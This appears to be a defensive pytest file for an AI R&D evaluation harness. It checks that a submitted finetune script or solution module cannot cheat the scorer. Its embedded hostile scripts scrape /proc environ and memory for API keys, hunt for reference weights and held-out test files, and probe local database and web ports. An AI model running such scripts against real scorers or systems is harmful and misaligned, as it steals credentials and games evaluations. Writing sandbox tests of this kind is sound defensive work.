"""What the expert's code finds when a scorer runs it: no reference, real API key, hidden test or host service.

Before the harness, the scorers of ai_rd_optimize_llm_foundry and ai_rd_rust_codecontests_inference
ran `finetune.sh` and `scaffold.py` as their own children: with the scorer's group, its copy and
configuration.json beside it, the environment's cache (the reference weights) and the held-out
problems in reach, and the key to the model one non-dumpable process away. Now the expert's code runs
in a harness instance of the attempt's sandbox: the live workspace, its inputs, its outputs, and for
the Rust solution module a bridge to the scorer's budget proxy; nothing else.

Each attack below is a real scoring run (the worker's code, in-process) of an attempt whose workspace
holds the hostile script; the script writes what it found into the workspace, where the test reads it.
"""

from __future__ import annotations

import contextlib
import json
import socket
import textwrap
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlparse

import pytest
from django.conf import settings

from environments import packages
from graders import services
from graders.models import ScoringJob
from tests.environments.scoring_support import load_module, small_configuration
from tests.graders.conftest import attempt_on, grading_dirs
from tests.hostile.conftest import ROOT_ONLY
from tests.workspace_support import put
from trials.models import Attempt
from workstation import layout, scoring

pytestmark = [ROOT_ONLY, pytest.mark.django_db(transaction=True), pytest.mark.timeout(400)]
__all__ = ["attempt_on", "grading_dirs", "small_configuration"]

FOUNDRY = "ai_rd_optimize_llm_foundry"
RUST = "ai_rd_rust_codecontests_inference"
RUST_PACKAGE = Path(settings.BASE_DIR) / "environments" / RUST
API_KEY = "sk-real-key-only-the-scorer-holds"


def score(attempt: Attempt) -> scoring.Outcome:
    """One scoring run of the attempt, as the worker does it."""
    job = ScoringJob.objects.create(attempt=attempt, queue_name="ws.test")
    outcome, _status = services.scoring_job_execute(job=job)
    return outcome


def prepared(attempt: Attempt) -> Path:
    services.workspace_prepare(attempt=attempt)
    return layout.workspace(attempt.pk)


# --- the foundry's reference weights -----------------------------------------------------------------

# Everything a finetune.sh could try: the path itself (as if guessed from the site's code), the
# configuration.json beside any scorer in /proc, the protected folder's scorer copies, the cache.
STEAL_WEIGHTS = r"""
import glob, hashlib, json, os, shutil, sys
known = json.loads(sys.argv[1])
found, places = [], set(known["paths"])
def note(*parts): found.append(" ".join(str(p) for p in parts))
configurations = set(glob.glob(os.path.join(known["protected"], "scorers", "*", "configuration.json")))
for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        arguments = open(cmdline, "rb").read().split(b"\0")
    except OSError as exc:
        note("cmdline refused", cmdline, exc)
        continue
    for argument in arguments:
        text = argument.decode("utf-8", "replace")
        if text.startswith("/") and text.endswith(".py"):
            configurations.add(os.path.join(os.path.dirname(text), "configuration.json"))
for path in sorted(configurations):
    try:
        cache = json.load(open(path))["cache_dir"]
        note("read", path)
        places.add(cache)
        places.add(json.load(open(os.path.join(cache, "layout.json")))["reference_weights"])
    except (OSError, ValueError, KeyError) as exc:
        note("configuration refused", path, type(exc).__name__)
for place in list(places):
    places.update(glob.glob(os.path.join(place, "reference-weights-*.pth")))
for place in sorted(places):
    if not place.endswith(".pth"):
        continue
    try:
        data = open(place, "rb").read()
    except OSError as exc:
        note("weights refused", place, type(exc).__name__)
        continue
    note("LEAKED", place, hashlib.sha256(data).hexdigest())
    try:
        os.makedirs("trained_model", exist_ok=True)
        open("trained_model/model.pth", "wb").write(data)
    except OSError as exc:
        note("could not write the copy", type(exc).__name__)
    break
report = "\n".join(["ran"] + found)
print(report, file=sys.stderr)
with open("stolen.txt", "w") as out:
    out.write(report)
"""


def test_a_finetune_script_cannot_pass_off_the_reference_weights(
    attempt_on: Callable[..., Attempt], small_configuration: Any
) -> None:
    attempt = attempt_on(FOUNDRY)
    workspace = prepared(attempt)
    package = packages.find(FOUNDRY)
    cache = package.cache_dir()
    assert cache is not None
    layout = json.loads((cache / "layout.json").read_text())
    reference = Path(layout["reference_weights"])
    assert reference.is_file()
    known = {"paths": [str(reference), str(cache)], "protected": str(settings.PROTECTED_DIR)}
    put(workspace, "steal.py", STEAL_WEIGHTS)
    put(
        workspace,
        "finetune.sh",
        f'cd "$(dirname "$0")"\nexec "${{PYTHON:-python3}}" steal.py \'{json.dumps(known)}\'\n',
    )

    outcome = score(attempt)
    report = (workspace / "stolen.txt").read_text() if (workspace / "stolen.txt").exists() else ""
    assert report.startswith("ran"), (outcome.message, outcome.details)
    assert "LEAKED" not in report, report
    assert outcome.score is None, (outcome.message, report)
    # Not scored because the weights were not there to copy: nothing found, nothing written.
    assert outcome.message == "finetune.sh finished but wrote no trained_model/model.pth.", outcome.message
    assert not (workspace / "trained_model" / "model.pth").exists()


# --- the rust solution module: the key, the endpoint, the hidden tests, the host's services -----------

SNOOP_BODY = r"""
known = json.loads(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "known.json")).read())
found = {"env": dict(os.environ), "environ": {}, "memory": {}, "files": {}, "endpoint": {}, "ports": {}}
for pid in sorted(p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()):
    try:
        found["environ"][pid] = open(f"/proc/{pid}/environ", "rb").read().decode("utf-8", "replace")
    except OSError as exc:
        found["environ"][pid] = f"refused: {exc}"
    hits = []
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
            for line in maps:
                span, perms = line.split()[:2]
                start, end = (int(x, 16) for x in span.split("-"))
                if "r" not in perms or end - start > 256 << 20:
                    continue
                try:
                    memory.seek(start)
                    chunk = memory.read(end - start)
                except (OSError, ValueError, OverflowError):
                    continue
                at = chunk.find(b"sk-")
                while at != -1 and len(hits) < 100:
                    hits.append(chunk[at : at + 40].decode("latin-1"))
                    at = chunk.find(b"sk-", at + 1)
        found["memory"][pid] = hits
    except OSError as exc:
        found["memory"][pid] = f"refused: {exc}"
candidates = set(known["files"])
candidates.update(glob.glob(os.path.join(known["protected"], "scorers", "*", "problems", "*.jsonl")))
candidates.update(glob.glob(os.path.join(known["protected"], "scorers", "*", "configuration.json")))
for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        for argument in open(cmdline, "rb").read().split(b"\0"):
            text = argument.decode("utf-8", "replace")
            if text.startswith("/") and text.endswith(".py"):
                folder = os.path.dirname(text)
                candidates.add(os.path.join(folder, "configuration.json"))
                candidates.add(os.path.join(folder, "problems", "heldout.jsonl"))
    except OSError:
        pass
for path in sorted(candidates):
    try:
        found["files"][path] = open(path, errors="replace").read()
    except OSError as exc:
        found["files"][path] = f"refused: {type(exc).__name__}"
for url in known["endpoints"]:
    try:
        request = urllib.request.Request(
            url.rstrip("/") + "/chat/completions", data=b"{}", headers={"Content-Type": "application/json"}
        )
        found["endpoint"][url] = f"reached: {urllib.request.urlopen(request, timeout=5).status}"
    except urllib.error.HTTPError as exc:
        found["endpoint"][url] = f"reached: HTTP {exc.code}"
    except Exception as exc:
        found["endpoint"][url] = f"refused: {exc}"
for port in known["ports"]:
    try:
        socket.create_connection(("127.0.0.1", port), timeout=5).close()
        found["ports"][str(port)] = "connected"
    except OSError as exc:
        found["ports"][str(port)] = f"refused: {exc}"
summary = {
    "sk-": [hit for hits in found["memory"].values() if isinstance(hits, list) for hit in hits]
    + [pid for pid, text in found["environ"].items() if "sk-" in text],
    "read": [path for path, content in found["files"].items() if not content.startswith("refused")],
    "endpoint": found["endpoint"],
    "ports": found["ports"],
}
try:
    os.makedirs("snooped", exist_ok=True)
    with open(os.path.join("snooped", problem["name"] + ".json"), "w") as out:
        json.dump(found, out)
except OSError as exc:
    summary["report"] = f"not written: {exc}"
if "report" in summary:
    raise RuntimeError(json.dumps(summary))
return "fn main() {}"
"""
# The expert's module, as the scorer imports it: each problem's generate_solution looks everywhere.
SNOOP = (
    "import glob, json, os, socket, sys, urllib.error, urllib.request\n\n"
    "def snoop(problem):\n"
    + textwrap.indent(SNOOP_BODY.strip("\n"), "    ")
    + "\n\n\nasync def generate_solution(client, semaphore, problem):\n    return snoop(problem)\n"
)


def hidden_outputs() -> set[str]:
    """Expected outputs that only the hidden tests hold (never in a public example)."""
    out = set()
    for line in (RUST_PACKAGE / "scoring" / "problems" / "heldout.jsonl").read_text().splitlines():
        problem = json.loads(line)
        public = set((problem.get("public_tests") or {}).get("output") or [])
        for kind in ("private_tests", "generated_tests"):
            for expected in (problem.get(kind) or {}).get("output") or []:
                if expected not in public and len(expected.strip()) >= 7:
                    out.add(expected.strip())
    return out


@contextlib.contextmanager
def listening(port: int) -> Iterator[None]:
    """Something listens on 127.0.0.1:port for the test's length (the service itself, or a stand-in)."""
    try:
        socket.create_connection(("127.0.0.1", port), timeout=2).close()
        yield
        return
    except OSError:
        pass
    stand_in = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    stand_in.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    stand_in.bind(("127.0.0.1", port))
    stand_in.listen(8)
    try:
        yield
    finally:
        stand_in.close()


def test_the_experts_module_finds_no_key_no_endpoint_no_hidden_tests_and_no_host_service(
    attempt_on: Callable[..., Attempt], small_configuration: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    scripted = load_module("rust_scripted_model", RUST_PACKAGE / "scripted_model" / "serve.py")
    web_port = urlparse(settings.SITE_URL).port or 80
    ports = [5432, 6379, web_port]
    with scripted.server(api_key=API_KEY) as model, contextlib.ExitStack() as services_up:
        for port in ports:
            services_up.enter_context(listening(port))
        small_configuration.RUST_CODECONTESTS_MODEL_URL = model.url
        small_configuration.RUST_CODECONTESTS_MODEL = "scripted-rust-model"
        small_configuration.RUST_CODECONTESTS_BUDGET_TOKENS = 200_000
        small_configuration.RUST_CODECONTESTS_RUSTC = ""
        monkeypatch.setenv("RUST_CODECONTESTS_API_KEY", API_KEY)
        attempt = attempt_on(RUST)
        workspace = prepared(attempt)
        known = {
            "files": [str(RUST_PACKAGE / "scoring" / "problems" / "heldout.jsonl")],
            "protected": str(settings.PROTECTED_DIR),
            "endpoints": [model.url],
            "ports": ports,
        }
        put(workspace, "known.json", json.dumps(known))
        put(workspace, "solve_code_contests_rust.py", SNOOP)
        outcome = score(attempt)
        # The model saw no request at all: the module never reached it, with or without a key.
        assert model.requests == [], model.requests
    reports = (
        {p.stem: p.read_text() for p in (workspace / "snooped").glob("*.json")}
        if (workspace / "snooped").is_dir()
        else {}
    )
    assert len(reports) == 6, (outcome.message, outcome.details)
    assert outcome.score == 0.0, outcome.message
    hidden = hidden_outputs()
    assert hidden
    for name, text in reports.items():
        # (b) the key: not in its environment, any process's environment or memory it could read.
        assert API_KEY not in text, name
        found = json.loads(text)
        # It looked everywhere it was told to: every process in its view, every file, the endpoint, the ports.
        assert found["environ"], name
        assert found["files"], name
        assert len(found["endpoint"]) == 1, name
        assert len(found["ports"]) == len(ports), name
        assert found["env"]["OPENAI_API_KEY"].startswith("proxy-"), name
        assert "RUST_CODECONTESTS_API_KEY" not in json.dumps(found["environ"]), name
        # (b) the endpoint: not reachable from where the module runs.
        assert all(v.startswith("refused") for v in found["endpoint"].values()), (name, found["endpoint"])
        # (b) the held-out problems' hidden tests and the scorer's configuration: nowhere to be read.
        leaked = [path for path, content in found["files"].items() if not content.startswith("refused")]
        assert not leaked, (name, leaked)
        assert not [h for h in hidden if h in text], name
        # (c) PostgreSQL, Redis and the web server, listening on the host's loopback: refused.
        assert all(v.startswith("refused") for v in found["ports"].values()), (name, found["ports"])


# --- the rust answer: the program the module returns sees the hidden tests' inputs ---------------------

LEAKED = "leaked-inputs.txt"
# One token says what it managed: w(rote the inputs into the workspace), k(ey seen), h(eld-out file
# read), n(etwork reached); the judge's "got '…'" brings it back.
ANSWER = r"""
use std::io::{Read, Write};
fn main() {
    let mut input = String::new();
    std::io::stdin().read_to_string(&mut input).unwrap();
    let wrote = std::fs::OpenOptions::new().create(true).append(true).open("/home/agent/LEAKED")
        .and_then(|mut f| f.write_all(input.as_bytes())).is_ok();
    let mut key = false;
    let mut held = false;
    if let Ok(entries) = std::fs::read_dir("/proc") {
        for entry in entries.flatten() {
            let path = entry.path();
            if let Ok(env) = std::fs::read(path.join("environ")) {
                key |= env.windows(17).any(|w| w == b"RUST_CODECONTESTS");
            }
            if let Ok(cmdline) = std::fs::read(path.join("cmdline")) {
                for arg in cmdline.split(|b| *b == 0) {
                    let arg = String::from_utf8_lossy(arg);
                    if arg.ends_with("score.py") {
                        let heldout = arg.replace("score.py", "problems/heldout.jsonl");
                        held |= std::fs::read_to_string(heldout).is_ok();
                    }
                }
            }
        }
    }
    held |= std::fs::read_to_string("HELDOUT").is_ok();
    let net = ["127.0.0.1:5432", "127.0.0.1:6379"].iter().any(|a| std::net::TcpStream::connect(a).is_ok());
    println!("w{}k{}h{}n{}", wrote as u8, key as u8, held as u8, net as u8);
}
"""


def test_an_answer_leaves_no_hidden_input_in_the_workspace_and_reaches_nothing(
    attempt_on: Callable[..., Attempt], small_configuration: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    scripted = load_module("rust_scripted_model", RUST_PACKAGE / "scripted_model" / "serve.py")
    heldout = RUST_PACKAGE / "scoring" / "problems" / "heldout.jsonl"
    program = ANSWER.replace("LEAKED", LEAKED).replace("HELDOUT", str(heldout))
    with scripted.server(api_key=API_KEY) as model, listening(5432), listening(6379):
        small_configuration.RUST_CODECONTESTS_MODEL_URL = model.url
        small_configuration.RUST_CODECONTESTS_MODEL = "scripted-rust-model"
        small_configuration.RUST_CODECONTESTS_BUDGET_TOKENS = 200_000
        small_configuration.RUST_CODECONTESTS_RUSTC = ""
        monkeypatch.setenv("RUST_CODECONTESTS_API_KEY", API_KEY)
        attempt = attempt_on(RUST)
        workspace = prepared(attempt)
        put(
            workspace,
            "solve_code_contests_rust.py",
            f"async def generate_solution(client, semaphore, problem):\n    return {program!r}\n",
        )
        outcome = score(attempt)
    assert outcome.score == 0.0, outcome.message
    reasons = {name: result["reason"] for name, result in outcome.details["per_problem"].items()}
    assert len(reasons) == 6
    for name, reason in reasons.items():
        assert "k0h0n0'" in reason, (name, reason)
    # Without Landlock the answer could write where the expert reads (judge.py records it per problem).
    load_module("judge_sandbox", RUST_PACKAGE / "scoring" / "judge_sandbox.py")  # judge.py imports it by that name
    judge = load_module("rust_judge", RUST_PACKAGE / "scoring" / "judge.py")
    if judge.landlock_abi() >= 1:
        assert all("got 'w0" in reason for reason in reasons.values()), reasons
        assert not (workspace / LEAKED).exists()
    else:
        assert all(result.get("unconfined") for result in outcome.details["per_problem"].values())
